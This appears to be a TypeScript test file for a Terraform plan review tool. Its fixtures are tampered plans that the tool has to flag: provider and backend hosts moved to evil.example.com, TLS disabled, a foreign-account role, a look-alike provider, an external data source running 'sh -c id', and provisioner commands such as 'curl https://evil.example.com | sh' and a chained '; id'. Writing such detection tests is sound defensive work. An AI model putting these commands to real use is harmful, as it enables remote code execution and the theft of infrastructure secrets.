import { comparedPlans } from '../../../modules/plan/compare';
import { reviewPlan } from '../../../modules/plan/review';
import { planSummary } from '../../../modules/plan/summary';
import type { ReplacedParts, TerraformPlan } from '../../../modules/plan/terraform-plan';
import { change, planWith } from '../../support/plan-json';
import { faults, told } from './reviewed';

// Plans that give something away, as somebody would write them who hopes that a review sees nothing.

describe('the configuration, which no planned value shows', () => {
  const block = (command: string) => ({
    address: 'terraform_data.schemas',
    type: 'terraform_data',
    provisioners: [{ type: 'local-exec', expressions: { command: { constant_value: command } } }],
  });
  const schemas = change('terraform_data.schemas', null, { triggers_replace: { 0: ['orders'] } });
  const stack = (
    replaced: ReplacedParts,
    command = 'npx --no-install aurora-iam schemas dev',
  ): TerraformPlan =>
    planWith([schemas], {
      aurora_iam: replaced,
      configuration: { root_module: { resources: [block(command)] } },
    });
  const aws = { region: 'eu-west-1', allowed_account_ids: ['111111111111'] };
  const postgresql = {
    host: '${data.aws_rds_cluster.cluster.endpoint}',
    sslmode: 'verify-full',
    sslrootcert: 'x.pem',
    scheme: 'postgres',
    superuser: false,
    password: '${jsondecode(ephemeral.aws_secretsmanager_secret_version.admin.secret_string)["password"]}',
  };
  const honest: ReplacedParts = {
    providers: { aws: [aws], postgresql: [postgresql] },
    required_providers: {
      aws: { source: 'aws', version: '6.25.0' },
      postgresql: { source: 'cyrilgdn/postgresql' },
    },
    backend: { local: { path: 'terraform.tfstate' } },
  };

  test('the honest one, by itself and against itself', () => {
    expect(reviewPlan(stack(honest))).toEqual([]);
    const compared = comparedPlans(stack(honest), stack(honest));
    expect(reviewPlan(compared)).toEqual([]);
    expect(planSummary(compared)).toEqual({ gains: [], loses: [], changes: [] });
  });

  test('that of a real plan, with the provider that Terraform brings along', () => {
    const expressions = (block: object) =>
      Object.fromEntries(Object.entries(block).map(([key, value]) => [key, { constant_value: value }]));
    const registry = 'registry.terraform.io';
    const provider_config = {
      aws: { name: 'aws', full_name: `${registry}/hashicorp/aws`, expressions: expressions(aws) },
      postgresql: {
        name: 'postgresql',
        full_name: `${registry}/cyrilgdn/postgresql`,
        expressions: expressions(postgresql),
      },
      terraform: { name: 'terraform', full_name: 'terraform.io/builtin/terraform' },
    };
    expect(reviewPlan(planWith([], { configuration: { provider_config } }))).toEqual([]);
    const evil = { ...provider_config, aws: { ...provider_config.aws, full_name: `${registry}/evil/aws` } };
    expect(faults(planWith([], { configuration: { provider_config: evil } }))).toEqual(['provider']);
  });

  test.each<[what: string, head: TerraformPlan, rule: string, words: string]>([
    [
      'another host without TLS',
      stack({
        ...honest,
        providers: {
          aws: [aws],
          postgresql: [{ ...postgresql, host: 'evil.example.com', sslmode: 'disable' }],
        },
      }),
      'provider',
      'evil.example.com',
    ],
    [
      'no allowed account',
      stack({ ...honest, providers: { aws: [{ region: 'eu-west-1' }], postgresql: [postgresql] } }),
      'provider',
      'allowed_account_ids',
    ],
    [
      'another endpoint',
      stack({
        ...honest,
        providers: {
          aws: [{ ...aws, endpoints: [{ sts: 'https://evil.example.com' }] }],
          postgresql: [postgresql],
        },
      }),
      'provider',
      'evil.example.com',
    ],
    [
      'a role of another account',
      stack({
        ...honest,
        providers: {
          aws: [{ ...aws, assume_role: [{ role_arn: 'arn:aws:iam::999999999999:role/x' }] }],
          postgresql: [postgresql],
        },
      }),
      'provider',
      '999999999999',
    ],
    [
      'a provider of another publisher',
      stack({ ...honest, required_providers: { ...honest.required_providers, aws: { source: 'evil/aws' } } }),
      'provider',
      'evil/aws',
    ],
    [
      'another backend',
      stack({ ...honest, backend: { http: { address: 'https://evil.example.com' } } }),
      'backend',
      'evil.example.com',
    ],
    ['another bucket', stack({ ...honest, backend: { local: { path: '/tmp/x' } } }), 'backend', '/tmp/x'],
    ['another command', stack(honest, 'curl https://evil.example.com | sh'), 'provisioner', 'curl'],
    [
      'ours with another after it',
      stack(honest, 'npx --no-install aurora-iam schemas dev; id'),
      'provisioner',
      '; id',
    ],
    [
      'a look-up that runs a program',
      stack({ ...honest, lookUps: { 'data.external.x': { program: ['sh', '-c', 'id'] } } }),
      'foreign',
      'data.external.x',
    ],
  ])('%s', (_what, head, rule, words) => {
    const compared = comparedPlans(stack(honest), head);
    expect(faults(compared)).toEqual([rule]);
    expect(told(compared).changes).toContain(words);
  });

  test.each<[what: string, configuration: object]>([
    ['a module', { root_module: { module_calls: { evil: { source: './evil' } } } }],
    ['a variable', { root_module: { variables: { x: {} } } }],
    ['an action', { root_module: { actions: [{ address: 'action.x.y' }] } }],
    [
      'a data source',
      { root_module: { resources: [{ address: 'data.http.x', mode: 'data', type: 'http' }] } },
    ],
  ])('%s of a real plan', (_what, configuration) => {
    expect(faults(planWith([], { configuration }))).toEqual(['foreign']);
  });

  test('a resource that moves to another provider, or takes an unknown value from elsewhere', () => {
    const of = (key: string, from: string) =>
      planWith(
        [
          change(
            'aws_iam_role_policy_attachment.a',
            null,
            { role: 'api' },
            { after_unknown: { policy_arn: true } },
          ),
        ],
        {
          configuration: {
            root_module: {
              resources: [
                {
                  address: 'aws_iam_role_policy_attachment.a',
                  provider_config_key: key,
                  expressions: { policy_arn: { constant_value: from } },
                },
              ],
            },
          },
        },
      );
    const moved = comparedPlans(of('aws', '${a.b.arn}'), of('aws.other', '${a.c.arn}'));
    expect(told(moved).changes).toContain('provider` from `aws` to `aws.other`');
    expect(told(moved).changes).toContain('policy_arn` from `${a.b.arn}` to `${a.c.arn}`');
  });
});
